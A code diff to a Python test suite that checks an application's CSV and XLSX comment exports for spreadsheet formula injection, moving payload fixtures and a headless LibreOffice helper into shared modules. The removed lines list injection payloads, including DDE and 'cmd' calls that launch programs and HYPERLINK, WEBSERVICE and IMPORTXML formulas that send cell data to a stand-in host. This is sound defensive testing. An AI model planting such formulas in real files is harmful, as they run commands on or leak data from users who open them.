@@ -5,11 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
-import shutil
-import subprocess
-import unicodedata
-from collections.abc import Callable, Iterator
-from itertools import product
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -23,58 +19,19 @@ from hearing_app.evidence.datasets import Catalogue
 from hearing_app.evidence.selection import parse_selection
 from hearing_app.hearings.comments.comment import Comment
 from tests.hostile import PAYLOADS
+from tests.hostile_formulas import FORMULAS, READERS, Save, starts_a_formula
 from tests.hostile_register import write_house
-from tests.scale import SOAK, scale
+from tests.scale import scale
 
 pytestmark = pytest.mark.promise("S2")
 MakeComment = Callable[..., Comment]
 Measure = Callable[[str, float | int | str], None]
 
-# What a spreadsheet may read as the start of a formula, in every width, and what can stand before it unseen.
-SIGNS = "=+-@|%\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u2212"
-BEFORE = (
-    "",
-    " ",
-    "\t",
-    "\r",
-    "\n",
-    "\u00a0",
-    "\u3000",
-    "\u200b",
-    "\ufeff",
-    "\u202e",
-    "a;",
-    "a\t",
-    'a","',
-    "a\n",
-)
-BODIES = (
-    "1+1",
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("https://beacon.example/?"&A1,"Click")',
-    'WEBSERVICE("https://beacon.example/"&A1)',
-    'IMPORTXML("https://beacon.example/","//a")',
-    "SUM(A1:A9)",
-    'DDE("cmd";"/C calc";"1")',
-    "[1]Sheet!A1",
-    "2.5",
-)
-FORMULAS = [
-    before + sign + BODIES[(place + step) % len(BODIES)]
-    for place, (before, sign) in enumerate(product(BEFORE, SIGNS))
-    for step in range(3)
-]
 TEXTS = ("concern", "value_seen", "ask", "display_name", "reason_note", "language_declared")
 
 
 def test_there_are_five_hundred() -> None:
     assert len(set(FORMULAS)) >= 500
-
-
-def starts_a_formula(cell: str) -> bool:
-    """Whether a spreadsheet that forgives blanks, widths and unseen signs could see a formula."""
-    seen = next((sign for sign in cell if unicodedata.category(sign)[0] not in "CZ"), "")
-    return unicodedata.normalize("NFKC", seen) in set("=+-@|%\u2212") or cell[:1] in {"\t", "\r", "\0"}
 
 
 @pytest.fixture
@@ -142,46 +99,13 @@ def test_no_value_of_an_audit_is_a_formula(tmp_path: Path) -> None:
         catalogue.close()
 
 
-@pytest.fixture(scope="module")
-def soffice(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[Path, str], Path]]:
-    """LibreOffice without a screen: opens a file with a filter and saves it as XLSX."""
-    if not SOAK:
-        pytest.skip("LibreOffice opens the tables in `make soak` alone: it takes a minute")
-    program = shutil.which("soffice")
-    if program is None:
-        pytest.skip("There is no LibreOffice. Install it (Debian: apt-get install libreoffice-calc-nogui)")
-    profile, made = tmp_path_factory.mktemp("profile"), tmp_path_factory.mktemp("saved")
-
-    def save(file: Path, reader: str) -> Path:
-        subprocess.run(
-            [
-                *(program, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"),
-                *("--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(made)),
-                *((f"--infilter={reader}",) if reader else ()),
-                str(file),
-            ],
-            check=True,
-            capture_output=True,
-            timeout=300,
-        )
-        return made / f"{file.stem}.xlsx"
-
-    yield save
-
-
 @pytest.mark.parametrize(
     ("form", "reader"),
-    [
-        ("csv", "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true"),
-        ("csv", "Text - txt - csv (StarCalc):59,34,76,1,,0,false,true"),
-        ("csv", "Text - txt - csv (StarCalc):9,34,76,1,,0,false,true"),
-        ("csv", "Text - txt - csv (StarCalc):44/59/9,34,76,1,,0,false,true"),
-        ("xlsx", ""),
-    ],
+    [*(("csv", reader) for reader in READERS), ("xlsx", "")],
 )
 def test_libreoffice_finds_no_formula(  # noqa: PLR0917 - fixtures
     comments: list[Comment],
-    soffice: Callable[[Path, str], Path],
+    soffice: Save,
     tmp_path: Path,
     measure: Measure,
     form: str,
@@ -189,17 +113,19 @@ def test_libreoffice_finds_no_formula(  # noqa: PLR0917 - fixtures
 ) -> None:
     file = tmp_path / f"comments-{form}.{form}"
     file.write_bytes(write_export(comments, form))
-    sheet = openpyxl.load_workbook(soffice(file, reader)).active
+    [saved] = soffice([file], reader)
+    sheet = openpyxl.load_workbook(saved).active
     found = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
     assert found == []
     assert sheet.max_row > len(FORMULAS)
     measure(f"cells that LibreOffice read in {form}", sheet.max_row * sheet.max_column)
 
 
-def test_libreoffice_would_find_a_formula(soffice: Callable[[Path, str], Path], tmp_path: Path) -> None:
+def test_libreoffice_would_find_a_formula(soffice: Save, tmp_path: Path) -> None:
     file = tmp_path / "formula.csv"
     file.write_text("a\n=1+1\n")
-    sheet = openpyxl.load_workbook(soffice(file, "Text - txt - csv (StarCalc):44,34,76,1")).active
+    [saved] = soffice([file], READERS[0])
+    sheet = openpyxl.load_workbook(saved).active
     assert [cell.data_type for row in sheet.iter_rows() for cell in row] == ["s", "f"]
 
 
